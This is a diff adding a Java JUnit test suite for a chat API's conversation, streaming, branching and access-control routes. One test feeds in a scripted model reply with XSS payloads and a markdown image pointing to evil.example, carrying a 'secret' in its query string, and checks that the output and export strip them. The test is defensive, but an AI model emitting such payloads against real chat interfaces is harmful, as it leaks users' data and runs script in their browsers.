@@ -1,0 +1,343 @@
+package dev.datastudio.app.chat;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.datastudio.app.AppServer;
+import dev.datastudio.app.Person;
+import dev.datastudio.testkit.model.ModelReply;
+import dev.datastudio.testkit.model.ScriptedModelServer;
+import java.net.http.HttpRequest.BodyPublishers;
+import java.util.List;
+import java.util.UUID;
+import java.util.concurrent.CountDownLatch;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.JsonNode;
+
+class ChatRoutesTest {
+    private final Person ada = AppServer.shared().newPerson();
+    private final ScriptedModelServer server = ScriptedModelServer.start();
+
+    @AfterEach
+    void close() {
+        server.close();
+    }
+
+    private static String messages(String conversation) {
+        return "/api/v1/conversations/" + conversation + "/messages";
+    }
+
+    @Test
+    void withoutAModelThePlannerAnswersWithSqlAndAChartAndTakesFollowUps() {
+        String data = ChatBench.orders(ada);
+        String id = ChatBench.conversation(ada);
+
+        JsonNode first = ada.post(
+                        messages(id), "{'message':'total sales by region','context':{'datasetIds':['" + data + "']}}")
+                .is(200)
+                .json();
+        JsonNode second =
+                ada.post(messages(id), "{'message':'only the North'}").is(200).json();
+
+        assertEquals("assistant", first.path("role").asString());
+        assertTrue(first.path("text").asString().contains("North"), first.toString());
+        JsonNode detail = first.path("detail");
+        assertEquals("data_analyst", detail.path("agent").asString());
+        assertTrue(detail.path("sql").get(0).asString().contains("region"), detail.toString());
+        JsonNode figure = detail.path("charts").get(0).path("figure");
+        assertEquals("bar", figure.path("data").get(0).path("type").asString());
+        assertTrue(second.path("text").asString().contains("50"), second.toString());
+        assertFalse(second.path("text").asString().contains("45"), second.toString());
+    }
+
+    @Test
+    void anAnswerIsStreamedUnderTheNamesThatClientsKnow() {
+        ChatBench.addModel(ada, server);
+        server.inTurn(ModelReply.pieces("Forty", "-", "two"));
+        String id = ChatBench.conversation(ada);
+
+        List<ChatBench.Event> events;
+        try (ChatBench.Stream stream =
+                ChatBench.stream(ada, messages(id), "{'message':'How many?','agent':'data_analyst'}")) {
+            events = stream.rest();
+        }
+
+        assertEquals(
+                List.of(
+                        "connection_established",
+                        "message",
+                        "analysis_update",
+                        "typing",
+                        "token",
+                        "token",
+                        "token",
+                        "typing",
+                        "message"),
+                events.stream().map(ChatBench.Event::type).toList());
+        ChatBench.Event last = events.get(events.size() - 1);
+        assertTrue(last.data().path("final").asBoolean());
+        assertFalse(events.get(1).data().path("final").asBoolean());
+        assertEquals("Forty-two", last.data().path("text").asString());
+        String turn = last.data().path("turn_id").asString();
+        assertEquals(turn + ":" + last.data().path("sequence").asLong(), last.id());
+    }
+
+    @Test
+    void aReconnectInMidStreamLosesNothingAndDoublesNothing() throws InterruptedException {
+        ChatBench.addModel(ada, server);
+        CountDownLatch held = new CountDownLatch(1);
+        server.inTurn(ModelReply.pieces("one ", "two ", "three ", "four").heldAfter(2, held));
+        String id = ChatBench.conversation(ada);
+        String last;
+        try (ChatBench.Stream stream =
+                ChatBench.stream(ada, messages(id), "{'message':'Count.','agent':'data_analyst'}")) {
+            last = stream.until(event -> event.data().path("text").asString("").equals("one "))
+                    .id();
+        }
+
+        List<ChatBench.Event> rest;
+        try (ChatBench.Stream again = ChatBench.follow(ada, id, last)) {
+            assertEquals("connection_established", again.next().type());
+            assertEquals("two ", again.next().data().path("text").asString());
+            held.countDown();
+            rest = again.rest();
+        }
+
+        assertEquals("three ", rest.get(0).data().path("text").asString());
+        assertEquals("four", rest.get(1).data().path("text").asString());
+        assertEquals(
+                "one two three four",
+                rest.get(rest.size() - 1).data().path("text").asString());
+        String end = rest.get(rest.size() - 1).id();
+        try (ChatBench.Stream nothing = ChatBench.follow(ada, id, end)) {
+            assertEquals(1, nothing.rest().size());
+        }
+        ada.send(ada.request("/api/v1/conversations/" + id + "/events").GET()).is(204);
+        assertEquals(1, server.requests().size());
+    }
+
+    @Test
+    void aClientThatGoesStopsNothingButAStopDoes() throws InterruptedException {
+        ChatBench.addModel(ada, server);
+        CountDownLatch held = new CountDownLatch(1);
+        server.inTurn(
+                ModelReply.pieces("kept ", "on").heldAfter(1, held),
+                ModelReply.pieces("cut ", "off").stalledAfter(1));
+        String id = ChatBench.conversation(ada);
+        String question = "{'message':'Go on?','agent':'data_analyst'}";
+        try (ChatBench.Stream stream = ChatBench.stream(ada, messages(id), question)) {
+            stream.until(event -> event.type().equals("token"));
+        }
+        ada.post(messages(id), question).is(409);
+        try (ChatBench.Stream end = ChatBench.follow(ada, id, "")) {
+            held.countDown();
+            List<ChatBench.Event> rest = end.rest();
+            assertEquals(
+                    "kept on", rest.get(rest.size() - 1).data().path("text").asString());
+        }
+
+        try (ChatBench.Stream stream = ChatBench.stream(ada, messages(id), question)) {
+            stream.until(event -> event.type().equals("token"));
+            ada.post("/api/v1/conversations/" + id + "/stop", "").is(204);
+            ChatBench.Event last =
+                    stream.until(event -> event.data().path("final").asBoolean(false));
+            assertEquals("stopped", last.data().path("detail").path("status").asString());
+            assertEquals("cut ", last.data().path("text").asString());
+        }
+    }
+
+    @Test
+    void aMessageThatIsSentTwiceUnderOneKeyIsAskedOnce() {
+        ChatBench.addModel(ada, server);
+        server.inTurn(ModelReply.text("Once."), ModelReply.text("Twice."));
+        String id = ChatBench.conversation(ada);
+        String key = UUID.randomUUID().toString();
+
+        Person.Reply first = keyed(id, key, "application/json");
+        Person.Reply again = keyed(id, key, "application/json");
+
+        assertEquals("Once.", first.is(200).json().path("text").asString());
+        assertEquals(first.json(), again.is(200).json());
+        assertEquals(1, server.requests().size());
+        String other = UUID.randomUUID().toString();
+        keyed(id, other, "text/event-stream").is(200);
+        keyed(id, other, "text/event-stream").is(409);
+        assertEquals(2, server.requests().size());
+    }
+
+    private Person.Reply keyed(String id, String key, String accept) {
+        return ada.send(ada.request(messages(id))
+                .header("Content-Type", "application/json")
+                .header("Accept", accept)
+                .header("Idempotency-Key", key)
+                .POST(BodyPublishers.ofString("{\"message\":\"Once?\",\"agent\":\"data_analyst\"}")));
+    }
+
+    @Test
+    void branchesAreBegunShownAndChosen() {
+        ChatBench.addModel(ada, server);
+        server.inTurn(ModelReply.text("First."), ModelReply.text("Second."), ModelReply.text("Third."));
+        String id = ChatBench.conversation(ada);
+        ada.post(messages(id), "{'message':'A?','agent':'data_analyst'}").is(200);
+        JsonNode retried = ada.post(messages(id) + "/1/retry", "").is(200).json();
+        ada.post(messages(id) + "/1/edit", "{'message':'B?','agent':'data_analyst'}")
+                .is(200);
+
+        JsonNode edited = ada.get(messages(id)).is(200).json().path("items");
+        JsonNode chosen = ada.post("/api/v1/conversations/" + id + "/choose", "{'number':2}")
+                .is(200)
+                .json();
+        JsonNode before = ada.get(messages(id)).is(200).json().path("items");
+
+        assertEquals("[2,3]", retried.path("siblings").toString());
+        assertEquals("B?", edited.get(0).path("text").asString());
+        assertEquals("[1,4]", edited.get(0).path("siblings").toString());
+        assertEquals(5, chosen.path("messages").asInt());
+        assertEquals("First.", before.get(1).path("text").asString());
+        JsonNode rated = ada.post("/api/v1/conversations/" + id + "/feedback", "{'number':2,'value':'up'}")
+                .is(200)
+                .json();
+        assertEquals("up", rated.path("rating").asString());
+        ada.post("/api/v1/conversations/" + id + "/feedback", "{'number':1,'value':'up'}")
+                .is(400);
+    }
+
+    @Test
+    void longConversationsAreReadBackwards() {
+        String id = ChatBench.conversation(ada);
+        ada.post(messages(id), "{'message':'one'}").is(200);
+        ada.post(messages(id), "{'message':'two'}").is(200);
+
+        JsonNode latest = ada.get(messages(id) + "?limit=2").is(200).json();
+        JsonNode earlier = ada.get(
+                        messages(id) + "?limit=2&after=" + latest.path("next").asString())
+                .is(200)
+                .json();
+
+        assertEquals("two", latest.path("items").get(0).path("text").asString());
+        assertEquals("one", earlier.path("items").get(0).path("text").asString());
+        assertTrue(earlier.path("next").isNull());
+    }
+
+    @Test
+    void conversationsAreNamedPutAwayFoundAndDeleted() {
+        String id = ada.post("/api/v1/conversations", "{'title':'Sales of the North','agent':'sql_expert'}")
+                .is(201)
+                .json()
+                .path("id")
+                .asString();
+        ChatBench.conversation(ada);
+
+        assertEquals(1, items("?q=north").size());
+        assertEquals(1, items("?agent=sql_expert").size());
+        ada.patch("/api/v1/conversations/" + id, "{'status':'archived','title':'Done'}")
+                .is(200);
+        assertEquals("Done", items("?status=archived").get(0).path("title").asString());
+        ada.post(messages(id), "{'message':'More?'}").is(400);
+        ada.delete("/api/v1/conversations/" + id).is(204);
+        ada.get("/api/v1/conversations/" + id).is(404);
+        ada.post("/api/v1/conversations", "{'agent':'nobody'}").is(404);
+    }
+
+    private JsonNode items(String query) {
+        return ada.get("/api/v1/conversations" + query).is(200).json().path("items");
+    }
+
+    @Test
+    void nobodyElseReadsFollowsOrAnswersAConversation() {
+        Person eve = AppServer.shared().newPerson();
+        String id = ChatBench.conversation(ada);
+        ada.post(messages(id), "{'message':'Secret?'}").is(200);
+
+        eve.get("/api/v1/conversations/" + id).is(404);
+        eve.get(messages(id)).is(404);
+        eve.post(messages(id), "{'message':'Hello'}").is(404);
+        eve.get("/api/v1/conversations/" + id + "/events").is(404);
+        eve.post("/api/v1/conversations/" + id + "/stop", "").is(404);
+        eve.get("/api/v1/conversations/" + id + "/export").is(404);
+        assertEquals(
+                0, eve.get("/api/v1/conversations").is(200).json().path("items").size());
+        String data = ChatBench.orders(ada);
+        String own = ChatBench.conversation(eve);
+        eve.post(messages(own), "{'message':'total sales','context':{'datasetIds':['" + data + "']}}")
+                .is(404);
+    }
+
+    @Test
+    void whatComesOutOfAChatLoadsAndRunsNothing() {
+        ChatBench.addModel(ada, server);
+        server.inTurn(ModelReply.text("![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
+                + " [click](javascript:alert(1)) <a href='javascript:alert(1)'>y</a> **bold**"));
+        String id = ChatBench.conversation(ada);
+
+        String text;
+        try (ChatBench.Stream stream = ChatBench.stream(
+                ada, messages(id), "{'message':'<script>alert(1)</script> hi','agent':'data_analyst'}")) {
+            text = stream.until(event -> event.data().path("final").asBoolean(false))
+                    .data()
+                    .path("text")
+                    .asString();
+        }
+        String kept = ada.get(messages(id)).is(200).json().at("/items/1/text").asString();
+        String file = ada.get("/api/v1/conversations/" + id + "/export?format=md")
+                .is(200)
+                .response()
+                .body();
+
+        assertTrue(text.contains("**bold**"), text);
+        assertEquals(text, kept);
+        for (String each : List.of(text, file)) {
+            assertFalse(each.contains("!["), each);
+            assertFalse(each.matches("(?s).*<[a-zA-Z/!].*"), each);
+            assertFalse(each.contains("](javascript"), each);
+        }
+        Person.Reply json = ada.get("/api/v1/conversations/" + id + "/export?format=json");
+        assertEquals(2, json.is(200).json().path("messages").size());
+        assertTrue(json.header("Content-Disposition").startsWith("attachment"));
+    }
+
+    @Test
+    void aModelThatFailsIsToldWithItsMend() {
+        ChatBench.addModel(ada, server);
+        server.inTurn(ModelReply.error(500, "broken"));
+        String id = ChatBench.conversation(ada);
+
+        JsonNode answer = ada.post(messages(id), "{'message':'Hi','agent':'data_analyst'}")
+                .is(200)
+                .json();
+
+        assertEquals("failed", answer.path("detail").path("status").asString());
+        assertFalse(answer.path("detail").path("problem").asString().isBlank());
+    }
+
+    @Test
+    void studioChatAnswersWithAConversationThatIsFoundByItsContext() {
+        String data = ChatBench.orders(ada);
+        JsonNode reply = ada.post(
+                        "/api/v1/studio/chat",
+                        "{'message':'total sales','context':{'source_id':'" + data
+                                + "','issue_id':'i-1','enriched':{'source':{'id':'" + data
+                                + "','name':'orders','type':'csv'},'schema':{'columns':['sales']}}}}")
+                .is(200)
+                .json();
+
+        assertTrue(reply.path("response").asString().contains("130"), reply.toString());
+        String id = reply.path("conversation_id").asString();
+        JsonNode found = ada.get("/api/v1/studio/conversations/context?issue_id=i-1&source_id=" + data)
+                .is(200)
+                .json();
+        assertEquals(id, found.path("source_conversations").get(0).path("id").asString());
+        assertEquals(1, found.path("issue_conversations").size());
+        assertEquals(0, found.path("project_conversations").size());
+        assertEquals(1, found.path("total_count").asInt());
+        ada.get("/api/v1/studio/conversations/context").is(400);
+        try (ChatBench.Stream stream = ChatBench.stream(
+                ada, "/api/v1/studio/chat", "{'message':'only the North','conversation_id':'" + id + "'}")) {
+            List<ChatBench.Event> events = stream.rest();
+            assertTrue(
+                    events.get(events.size() - 1).data().path("text").asString().contains("50"));
+        }
+    }
+}
